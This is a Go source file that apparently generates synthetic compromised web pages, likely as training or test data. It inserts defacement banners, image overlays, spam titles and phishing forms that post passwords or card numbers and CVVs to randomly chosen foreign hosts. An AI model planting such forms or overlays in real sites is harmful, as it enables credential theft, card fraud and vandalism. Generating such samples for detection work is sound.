package inject

import (
	"fmt"
	"math/rand/v2"
)

// banner puts a banner with the intruder's words at the top: a heading, a bar
// over the page, running text, or a bare paragraph, in one of several languages.
func banner(v *victim, r *rand.Rand) []edit {
	s := pick(r, shouts)
	headline, line := s.headline(r), pick(r, s.lines)
	return insert(v.top(r), pick(r, []string{
		fmt.Sprintf("<center><h1>%s</h1><p>%s</p></center>", headline, line),
		fmt.Sprintf(`<div style="position:fixed;top:0;left:0;width:100%%;z-index:99999;background:#000;color:#f00;text-align:center">%s - %s</div>`, headline, line),
		fmt.Sprintf("<marquee><font color=red size=6>%s</font></marquee>", headline),
		fmt.Sprintf(`<p style="color:red;font-size:40px"><b>%s</b></p>`, headline),
		fmt.Sprintf(`<div><img src="https://%s/%s.gif"><h2>%s</h2><span>%s</span></div>`, foreignHost(r), spoken(r), headline, line),
	}))
}

// bannerWordless puts an image over the top of the page, without a word that
// could be read: from a foreign host, from the site's own uploads, inline, or
// as a background.
func bannerWordless(v *victim, r *rand.Rand) []edit {
	source := fmt.Sprintf("https://%s/%s.png", foreignHost(r), letters(r, alphanumeric, 8))
	if r.IntN(3) == 0 {
		source = fmt.Sprintf("/uploads/%s.jpg", letters(r, alphanumeric, 8))
	}
	return insert(v.top(r), pick(r, []string{
		fmt.Sprintf(`<img src="%s" style="position:fixed;top:0;left:0;width:100%%;z-index:99999" alt="">`, source),
		fmt.Sprintf(`<div style="position:absolute;inset:0;z-index:9999;background:#000 url(%s) center no-repeat"></div>`, source),
		fmt.Sprintf(`<center><a href="https://%s/"><img src="%s" width="100%%"></a></center>`, foreignHost(r), source),
		fmt.Sprintf(`<div><img src="data:image/png;base64,%s"></div>`, letters(r, alphanumeric, between(r, 800, 6000))),
		`<svg viewBox="0 0 100 40" style="position:fixed;top:0;width:100%;z-index:9999"><rect width="100" height="40"/><path fill="red" d="M50 4 L58 30 L34 12 L66 12 L42 30 Z"/></svg>`,
		fmt.Sprintf(`<picture><source srcset="%s" type="image/webp"><img src="%s"></picture>`, source, source),
	}))
}

// titleH1 changes only the title and the first heading: to the intruder's
// words, to spam, or to something harmless. A page without either is left out.
func titleH1(v *victim, r *rand.Rand) []edit {
	var text string
	switch r.IntN(3) {
	case 0:
		text = pick(r, shouts).headline(r)
	case 1:
		text = pick(r, spam)
	default:
		text = pick(r, []string{"Welcome", "Untitled Document", "New page", "Test", "Home", "Site for sale", sentence(r)})
	}
	var edits []edit
	if !v.title.empty() {
		edits = append(edits, edit{v.title.start, v.title.end, text})
	}
	if !v.heading.empty() {
		edits = append(edits, edit{v.heading.start, v.heading.end, text})
	}
	return edits
}

// phishingForm asks for a password or a card and posts it to a foreign host: over the
// page, at its top, or between its blocks, in one of several languages.
func phishingForm(v *victim, r *rand.Rand) []edit {
	l := pick(r, lures)
	target := fmt.Sprintf("https://%s/%s.php", foreignHost(r), pick(r, []string{"login", "post", "gate", "next", spoken(r)}))
	form := pick(r, []string{
		fmt.Sprintf(`<form method="post" action="%s"><h2>%s</h2><p>%s</p><label>%s<input type="email" name="u"></label><label>%s<input type="password" name="p"></label><button type="submit">%s</button></form>`,
			target, l.headline, l.text, l.user, l.password, l.button),
		fmt.Sprintf(`<form action="%s" method="POST"><input type="text" name="login" placeholder="%s"><input type="password" name="pass" placeholder="%s"><input type="submit" value="%s"></form>`,
			target, l.user, l.password, l.button),
		fmt.Sprintf(`<h3>%s</h3><form action="%s" method="post"><input name="cc" placeholder="0000 0000 0000 0000"><input name="exp"><input name="cvv"><input type="hidden" name="id" value="%s"><button>%s</button></form>`,
			l.headline, target, letters(r, hexDigits, 12), l.button),
	})
	switch r.IntN(3) {
	case 0:
		return insert(v.top(r), `<div style="position:fixed;inset:0;background:rgba(0,0,0,.8);z-index:99999"><div style="margin:10% auto;width:320px;background:#fff">`+form+"</div></div>")
	case 1:
		return insert(v.top(r), "<div>"+form+"</div>")
	}
	return insert(v.somewhere(r), form)
}
